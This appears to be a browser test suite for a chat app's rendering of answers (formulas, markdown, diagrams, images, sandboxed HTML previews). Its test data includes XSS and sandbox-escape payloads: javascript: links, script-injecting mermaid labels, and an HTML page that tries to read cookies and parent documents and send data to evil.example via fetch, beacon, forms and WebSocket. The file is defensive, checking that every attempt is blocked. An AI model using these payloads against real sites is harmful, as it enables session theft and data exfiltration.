import { createSocket } from "node:dgram";
import { afterAll, beforeAll, expect, it } from "vitest";
import { findings } from "./axe.js";
import { asked, exportOf, said } from "./prepared-conversation.js";
import { describePage } from "./site.js";
import { desktop, patience, type Tab } from "./tab.js";
import { type Piece, Upstream } from "./upstream.js";

const dot =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

const formulas = String.raw`The roots are \(x = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}\), where $a \neq 0$.

$$
\begin{pmatrix} a & b \\ c & d \end{pmatrix} \begin{pmatrix} x \\ y \end{pmatrix}
$$

It costs $5 and $10, or 20$ in all. This one is wrong: $\frac{a$ and $\undefinedmacro{x}$.

\[ \int_0^1 x^2 \, dx = \tfrac13 \]`;

const words = `Press <kbd>Ctrl</kbd> + <kbd>K</kbd>, H<sub>2</sub>O, 10<sup>3</sup>, one<br>two, <b>not bold</b>.[^why]

- [x] done
- [ ] open

<details>
<summary>More of **it**</summary>

Hidden *words*.

</details>

| name | amount |
| :- | -: |
| Ann, the first | 5 |
| =SUM(A1) | 7 |

[^why]: Because of **this**.`;

const diagram = "```mermaid\nflowchart LR\n  A[Start] --> B{Choice}\n  B -->|yes| C[End]\n```";
const code = `\`\`\`python\n# tools/main.py\n${Array.from({ length: 60 }, (_, n) => `print(${n})`).join("\n")}\n\`\`\``;
const pictures = `![a dot](data:image/png;base64,${dot})

![far away](https://pictures.example/cat.png) ![closed](https://closed.example/dog.png)`;

const bombs = [
  String.raw`$$\def\a{\a\a}\a$$`,
  String.raw`$$\def\a#1{#1#1#1#1#1#1#1#1#1#1}\a{\a{\a{\a{\a{\a{x}}}}}}$$`,
  `$$${"{".repeat(2_000)}x${"}".repeat(2_000)}$$`,
  String.raw`$$\rule{99999em}{99999em}$$ $$\href{javascript:window.hacked=1}{x}$$ $$\htmlStyle{position:fixed;inset:0}{x}$$`,
  String.raw`$$\includegraphics{https://evil.example/math.png}$$`,
  Array.from({ length: 600 }, (_, n) => `$x_{${n}}$`).join(" "),
  '```mermaid\nflowchart LR\n  A[<img src=x onerror=parent.hacked=1><script>parent.hacked=2</script>] --> B\n  click A href "javascript:window.hacked=3"\n  click B call hacked()\n```',
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(https://evil.example/css) }"}}%%\nflowchart LR\n  X["<img src='https://evil.example/mermaid.png'>"] --> Y\n\`\`\``,
  `\`\`\`mermaid\nflowchart LR\n${Array.from({ length: 2_000 }, (_, n) => `  N${n} --> N${(n * 7) % 2_000}`).join("\n")}\n\`\`\``,
  "```mermaid\nnot a diagram at all\n```",
  "![x](https://evil.example/pixel.png) ![y](http://evil.example/2) <img src=https://evil.example/3> ![z](data:image/svg+xml;base64,PHN2Zz4=)",
  "The end of the bombs.",
].join("\n\n");

/** Returns HTML that tries to get out. `port`: where calls between browsers would be noticed. */
const attempts = (port: number) => `<p id="state">waiting</p>
<script>
const outcomes = {};
const attempt = (name, work) => { try { const value = work(); outcomes[name] = value === undefined ? "nothing" : String(value); } catch (error) { outcomes[name] = "refused"; } };
attempt("origin", () => self.origin);
attempt("parent document", () => parent.document.title);
attempt("top document", () => top.document.cookie);
attempt("top navigation", () => { top.location.href = "https://evil.example/top"; });
attempt("parent navigation", () => { parent.location = "https://evil.example/parent"; });
attempt("storage", () => localStorage.length);
attempt("cookie", () => document.cookie);
attempt("database", () => indexedDB.open("x") && "opened");
attempt("popup", () => open("https://evil.example/popup"));
attempt("calls", () => typeof RTCPeerConnection);
const call = "const made = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); made.createDataChannel('x'); made.createOffer().then((offer) => made.setLocalDescription(offer));";
attempt("own call", () => { eval(call); });
for (const frame of [{ srcdoc: "<script>" + call + "<" + "/script>" }, { src: "javascript:" + call }])
  document.documentElement.append(Object.assign(document.createElement("iframe"), frame));
const host = document.createElement("div"); document.documentElement.append(host);
host.attachShadow({ mode: "closed" }).append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>" + call + "<" + "/script>" }));
const inner = document.createElement("iframe"); document.documentElement.append(inner);
attempt("inner frame", () => inner.contentWindow.parent.parent.document.title);
attempt("worker", () => new Worker("/frames/artifact.js"));
attempt("alert", () => alert("hello"));
const form = document.createElement("form");
form.action = "https://evil.example/form"; form.method = "post";
document.body.append(form); attempt("form", () => form.submit());
for (const html of [
  '<img src="https://evil.example/img.png">', '<link rel="prefetch" href="https://evil.example/prefetch">',
  '<link rel="stylesheet" href="https://evil.example/style.css">', '<link rel="dns-prefetch" href="https://evil.example">',
  '<link rel="preconnect" href="https://evil.example">', '<iframe src="https://evil.example/frame"></iframe>',
  '<object data="https://evil.example/object"></object>', '<video src="https://evil.example/video"></video>',
  '<meta http-equiv="refresh" content="1;url=https://evil.example/refresh">',
]) document.head.insertAdjacentHTML("beforeend", html);
const script = document.createElement("script"); script.src = "https://evil.example/script.js"; document.head.append(script);
const asking = ["https://evil.example/fetch", "/conversations", "/me"].map((address) => fetch(address, { credentials: "include" }).then(() => "reached", () => "refused"));
attempt("socket", () => new WebSocket("wss://evil.example/socket").url && "");
attempt("beacon", () => navigator.sendBeacon("https://evil.example/beacon", "x"));
Promise.all(asking).then((reached) => { outcomes.fetch = reached.join(); document.getElementById("state").textContent = JSON.stringify(outcomes); setTimeout(() => { location.href = "https://evil.example/leave"; }, 300); });
</script>`;

const artifact = (
  port: number,
) => `\`\`\`html\n<h1>Counter</h1><button onclick="this.textContent = Number(this.textContent) + 1">0</button>\n\`\`\`

\`\`\`svg\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" width="200"><circle cx="5" cy="5" r="4" fill="teal"/></svg>\n\`\`\`

\`\`\`html\n${attempts(port)}\n\`\`\`

\`\`\`html\n<script>while (true) {}</script>\n\`\`\`

The end of the artifacts.`;

const long = `# The beginning\n\n${Array.from({ length: 3_000 }, (_, n) => `Paragraph **${n}** ${"of many words ".repeat(12)}`).join("\n\n")}\n\n## The conclusion\n\nIt is **this**.`;

/** Waits until no part of an answer moves any more. */
const open = async (tab: Tab, text: string) => {
  await tab.log.getByText(text).last().waitFor();
};

/** Gates that the model's next output waits for. */
const steps = Array.from({ length: 3 }, () => {
  let go: () => void = () => undefined;
  const gone = new Promise<void>((resolve) => {
    go = resolve;
  });
  return { go, gone };
});

let upstream: Upstream | undefined;

async function config(): Promise<object> {
  upstream = await Upstream.start(async function* (): AsyncIterable<Piece> {
    yield { text: "The sum is $$\\sum_{i=1}^{n} *i* " };
    await steps[0]?.gone;
    yield { text: "= \\frac{n(n+1)}{2}$$ and\n\n```html\n<h1>First</h1>\n" };
    await steps[1]?.gone;
    yield { text: "<h2>Second</h2>\n" };
    await steps[2]?.gone;
    yield { text: "```\n\nThe end." };
  });
  return { models: { local: upstream.credential } };
}

describePage("rich answers", config, (site) => {
  const calls = createSocket("udp4");
  let called = 0;
  calls.on("message", () => {
    called += 1;
  });
  afterAll(() => calls.close());
  afterAll(() => upstream?.end());
  beforeAll(async () => {
    await new Promise<void>((resolve) => calls.bind(0, "127.0.0.1", resolve));
    const turn = (question: string, answer: string) => [[asked(question), said(answer)]];
    const all = {
      rich: [formulas, words, diagram, code, pictures, "That is all."].join("\n\n"),
      bombs,
      artifact: artifact(calls.address().port),
      long,
    };
    for (const [id, answer] of Object.entries(all))
      await site().import(exportOf({ id, title: id }, turn(id, answer)));
  });

  it("draws formulas, tags, notes, tasks, tables, code, diagrams and pictures, and copies what was written", async () => {
    const tab = await site().open("about:blank", { ...desktop, viewport: { width: 1280, height: 6_000 } });
    const requests: string[] = [];
    await tab.page.route("https://*.example/**", async (route) => {
      const { url, headers } = { url: route.request().url(), headers: route.request().headers() };
      requests.push(`${url} ${headers.referer ?? "no referrer"} ${headers.cookie ?? "no cookie"}`);
      if (url.includes("closed.example")) return route.abort();
      await route.fulfill({ contentType: "image/png", body: Buffer.from(dot, "base64") });
    });
    await tab.context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await tab.page.goto(`${site().url}/c/rich`);
    await open(tab, "That is all.");
    const answer = tab.answers.last();

    await expect.poll(() => answer.locator(".katex").count(), patience).toBe(4);
    expect(await answer.innerText()).toContain("It costs $5 and $10, or 20$ in all.");
    expect(await answer.innerText()).toContain("$\\undefinedmacro{x}$");
    await tab.page.evaluate(() => {
      const paragraphs = document.querySelectorAll(".md > p, .md > .md-formula");
      const range = document.createRange();
      range.setStartBefore(paragraphs[0] as Node);
      range.setEndAfter(paragraphs[1] as Node);
      getSelection()?.removeAllRanges();
      getSelection()?.addRange(range);
    });
    await tab.page.keyboard.press("ControlOrMeta+c");
    const clipboard = () => tab.page.evaluate(() => navigator.clipboard.readText());
    await expect
      .poll(clipboard, patience)
      .toContain("\\(x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}\\), where $a \\neq 0$.");
    expect(await clipboard()).toContain("\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}");

    expect(await answer.locator("kbd").allInnerTexts()).toEqual(["Ctrl", "K"]);
    expect(await answer.locator("sub").innerText()).toBe("2");
    expect(await answer.innerText()).toContain("<b>not bold</b>");
    expect(await answer.getByRole("img", { name: "done" }).count()).toBe(1);
    const details = answer.locator("details");
    expect(await details.getByText("Hidden words.").isVisible()).toBe(false);
    await details.locator("summary").click();
    await details.getByText("Hidden words.").waitFor({ state: "visible" });
    await answer.getByRole("link", { name: "Footnote 1", exact: true }).click();
    expect(await tab.page.evaluate(() => document.activeElement?.textContent)).toContain("Because of this.");
    expect(new URL(tab.page.url()).pathname).toBe("/c/rich");

    await answer.locator("table").hover();
    await answer.getByRole("button", { name: "Copy table as CSV" }).click();
    await expect.poll(clipboard, patience).toBe('name,amount\r\n"Ann, the first",5\r\n\'=SUM(A1),7');

    const figure = answer.getByRole("figure", { name: "Code in python" });
    await figure.getByRole("button", { name: "Wrap lines" }).click();
    expect(await figure.locator("pre").evaluate((pre) => getComputedStyle(pre).whiteSpace)).toBe("pre-wrap");
    const tall = (await figure.boundingBox())?.height ?? 0;
    await figure.getByRole("button", { name: "Fold code" }).click();
    await expect.poll(async () => (await figure.boundingBox())?.height ?? 0, patience).toBeLessThan(tall / 2);
    await figure.getByRole("button", { name: "Show all 61 lines" }).click();
    const [download] = await Promise.all([
      tab.page.waitForEvent("download"),
      figure.getByRole("button", { name: "Download code" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("main.py");

    const drawn = answer.getByRole("figure", { name: "Diagram" }).locator("img");
    await drawn.waitFor();
    expect(
      await drawn.evaluate((image: HTMLImageElement) => image.decode().then(() => image.naturalWidth)),
    ).toBeGreaterThan(100);
    await answer.getByRole("button", { name: "Source", exact: true }).click();
    await answer
      .getByRole("figure", { name: "Code in mermaid" })
      .getByRole("button", { name: "Diagram" })
      .click();

    // Only the reader can request content from elsewhere.
    expect(requests).toEqual([]);
    expect(await answer.getByAltText("a dot").evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(
      1,
    );
    await answer.getByRole("button", { name: "Load picture from pictures.example" }).click();
    const far = answer.getByAltText("far away");
    await far.waitFor({ state: "attached" });
    await expect.poll(() => far.evaluate((image: HTMLImageElement) => image.naturalWidth), patience).toBe(1);
    await answer.getByRole("button", { name: "Load picture from closed.example" }).click();
    await answer.getByRole("link", { name: /closed\.example does not give it/ }).waitFor();
    expect(requests).toEqual([
      "https://pictures.example/cat.png no referrer no cookie",
      "https://closed.example/dog.png no referrer no cookie",
    ]);
    tab.allow(/^request to https:\/\/(pictures|closed)\.example$/, /closed\.example/);
    expect(await findings(tab)).toEqual([]);
  });

  it("does not run, load or freeze for what formulas, diagrams and pictures ask it to", async () => {
    const tab = await site().open("/c/bombs");
    await open(tab, "The end of the bombs.");
    await tab.log.evaluate((box) => box.scrollTo(0, 0));
    await tab.composer.fill("still here");
    const failed = tab.log.getByText(/^The diagram cannot be drawn/);
    await expect.poll(() => failed.count(), patience).toBe(2);
    await expect
      .poll(() => tab.log.getByRole("figure", { name: "Diagram" }).locator("img").count(), patience)
      .toBe(2);
    await expect.poll(() => tab.log.locator(".katex").count(), patience).toBeGreaterThan(590);
    const seen = await tab.page.evaluate(() => ({
      hacked: window.hacked,
      pictures: [...document.querySelectorAll("img")].map(({ src }) => src.split(":")[0]),
      links: [...document.querySelectorAll(".md a")].map((link) => link.getAttribute("href")),
      largest: Math.max(
        ...[...document.querySelectorAll(".katex-html *")].map((each) => each.getBoundingClientRect().height),
      ),
    }));
    expect(seen).toEqual({
      hacked: undefined,
      pictures: ["blob", "blob"],
      links: ["http://evil.example/2"],
      largest: expect.any(Number),
    });
    expect(seen.largest).toBeLessThan(2_000);
    expect(await tab.tooWide()).toEqual([]);
  });

  it("runs HTML beside the conversation, and nothing of it gets out", async () => {
    const tab = await site().open("about:blank");
    // A request that a policy blocks does not arrive here.
    const reached: string[] = [];
    await tab.page.route("https://evil.example/**", (route) => {
      reached.push(route.request().url());
      return route.abort();
    });
    await tab.page.goto(`${site().url}/c/artifact`);
    await open(tab, "The end of the artifacts.");
    const preview = tab.log.getByRole("button", { name: "Preview" });
    await preview.nth(0).click();
    const panel = tab.page.getByRole("complementary", { name: "Preview" });
    const frame = panel.frameLocator("iframe");
    const button = frame.getByRole("button");
    await button.click();
    await expect.poll(() => button.innerText(), patience).toBe("1");
    expect(await findings(tab)).toEqual([]);
    await panel.getByRole("button", { name: "Show source" }).click();
    await panel.getByText("<h1>Counter</h1>").waitFor();
    await panel.getByRole("button", { name: "Full width" }).click();
    expect((await panel.boundingBox())?.width).toBe(1_280);
    await tab.page.keyboard.press("Escape");
    await panel.waitFor({ state: "detached" });

    await preview.nth(1).click();
    await frame.locator("circle").waitFor();
    await preview.nth(2).click();
    const state = frame.locator("#state");
    await expect.poll(() => state.innerText(), patience).toContain("fetch");
    expect(JSON.parse(await state.innerText())).toEqual({
      origin: "null",
      "parent document": "refused",
      "top document": "refused",
      "top navigation": "refused",
      "parent navigation": "refused",
      storage: "refused",
      cookie: "refused",
      database: "refused",
      popup: "null",
      calls: "undefined",
      "own call": "refused",
      "inner frame": "refused",
      worker: "refused",
      alert: "nothing",
      form: "nothing",
      socket: expect.anything(),
      beacon: expect.anything(),
      fetch: "refused,refused,refused",
    });
    // It tried to leave, at last: it got nowhere.
    await expect.poll(() => tab.problems().join("\n"), patience).toMatch(/frame-src|evil\.example\/leave/);
    expect(tab.page.url()).toBe(`${site().url}/c/artifact`);
    expect({ reached, called }).toEqual({ reached: [], called: 0 });

    // One that never ends does not block the page.
    await preview.nth(3).click();
    await tab.composer.fill("still here");
    expect(await tab.composer.inputValue()).toBe("still here");
    await panel.getByRole("button", { name: "Close preview" }).click();
    await panel.waitFor({ state: "detached" });
    tab.allow(
      /evil\.example/,
      /sandboxed/,
      /Content Security Policy/,
      /frames\/artifact/,
      /policy: frame-src/,
    );
  });

  it("shows a formula as it is written until it ends, and runs what is still being written", async () => {
    const tab = await site().open();
    await tab.begin("a sum, please");
    const source = tab.answers.last().locator(".md-formula-source");
    await expect.poll(() => source.innerText(), patience).toBe("$$\\sum_{i=1}^{n} *i* ");
    expect(await tab.answers.last().locator("em").count()).toBe(0);
    steps[0]?.go();
    await tab.answers.last().locator(".katex-display").waitFor();
    await tab.log.getByRole("button", { name: "Preview" }).click();
    const frame = tab.page.getByRole("complementary", { name: "Preview" }).frameLocator("iframe");
    await frame.getByRole("heading", { name: "First" }).waitFor();
    steps[1]?.go();
    await frame.getByRole("heading", { name: "Second" }).waitFor();
    steps[2]?.go();
    await tab.ended(1);
    await frame.getByRole("heading", { name: "Second" }).waitFor();
  });

  it("shows the beginning and the end of a very long answer, and its middle on request", async () => {
    const tab = await site().open("/c/long");
    const answer = tab.answers.last();
    await answer.getByRole("heading", { name: "The conclusion" }).waitFor();
    await answer.locator("strong", { hasText: /^this$/ }).waitFor();
    const count = () => answer.locator("strong").count();
    const before = await count();
    expect(before).toBeLessThan(1_500);
    await answer.getByText(/in between are not drawn yet/).waitFor({ state: "attached" });
    await answer.getByRole("button", { name: "Show more" }).click();
    await expect.poll(count, patience).toBeGreaterThan(before);
    await answer.getByRole("button", { name: "Show all" }).click();
    await expect.poll(count, patience).toBe(3_001);
    await answer.getByText(/in between are not drawn yet/).waitFor({ state: "detached" });
  });
});
